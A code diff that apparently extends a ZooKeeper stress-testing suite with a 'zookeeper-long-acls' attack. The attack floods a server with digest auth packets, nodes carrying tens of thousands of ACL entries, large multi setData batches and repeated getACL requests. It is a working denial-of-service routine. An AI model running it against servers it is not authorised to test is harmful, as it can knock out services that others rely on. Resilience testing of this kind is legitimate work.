@@ -79,6 +79,30 @@ function create(session: RawSession, path: string, data: Buffer, flags = 0): voi
   });
 }
 
+type Entry = readonly [permissions: number, scheme: string, id: string];
+
+function createWith(session: RawSession, path: string, acl: readonly Entry[]): void {
+  session.send(opcodes.create, (writer) => {
+    writer.string(path).buffer(Buffer.alloc(0));
+    writer.vector(acl, ([bits, scheme, id]) => writer.i32(bits).string(scheme).string(id));
+    writer.i32(0);
+  });
+}
+
+/** The last entry is the one that grants something. */
+const open: Entry = [31, 'world', 'anyone'];
+const addresses = (count: number): Entry[] => [
+  ...Array.from(
+    { length: count - 1 },
+    (_, index): Entry => [31, 'ip', `9.${index >> 16}.${(index >> 8) & 255}.${index & 255}/8`],
+  ),
+  open,
+];
+const digests = (count: number): Entry[] => [
+  ...Array.from({ length: count - 1 }, (_, index): Entry => [31, 'digest', `u${index}:${'A'.repeat(18)}`]),
+  open,
+];
+
 /** Creates the attack's node, and deletes it with its children afterwards. */
 async function inTree(target: Target, use: (session: RawSession) => Promise<void>): Promise<void> {
   const session = await RawSession.open(target);
@@ -147,6 +171,44 @@ export const zooKeeperAttacks: readonly LoopAttack[] = [
         }
       });
       await remove(target, [...children(count), root]);
+    },
+  },
+  {
+    name: 'zookeeper-long-acls',
+    async run(target, scale) {
+      const paths = [`${root}/ip`, `${root}/digest`, `${root}/auth`] as const;
+      const parts = times(10_000, scale);
+      await inTree(target, async (session) => {
+        for (let user = 0; user < 400; user++)
+          session.send(opcodes.auth, (writer) =>
+            writer
+              .i32(0)
+              .string('digest')
+              .buffer(Buffer.from(`u${user}:p`)),
+          );
+        await session.settled();
+        for (const [path, acl] of [
+          [paths[0], addresses(times(38_000, scale))],
+          [paths[1], digests(times(24_000, scale))],
+          [paths[2], Array.from({ length: times(60_000, scale) }, (_, bits) => [bits, 'auth', ''] as const)],
+        ] as const) {
+          createWith(session, path, acl);
+          await session.settled();
+        }
+        for (const path of paths.slice(0, 2)) {
+          session.send(opcodes.multi, (writer) => {
+            for (let part = 0; part < parts; part++) {
+              writer.i32(opcodes.setData).bool(false).i32(-1);
+              writer.string(path).buffer(Buffer.from('x')).i32(-1);
+            }
+            writer.i32(-1).bool(true).i32(-1);
+          });
+          for (let round = 0; round < times(20, scale); round++)
+            session.send(opcodes.getACL, (writer) => writer.string(path));
+          await session.settled();
+        }
+      });
+      await remove(target, [...paths, root]);
     },
   },
   {
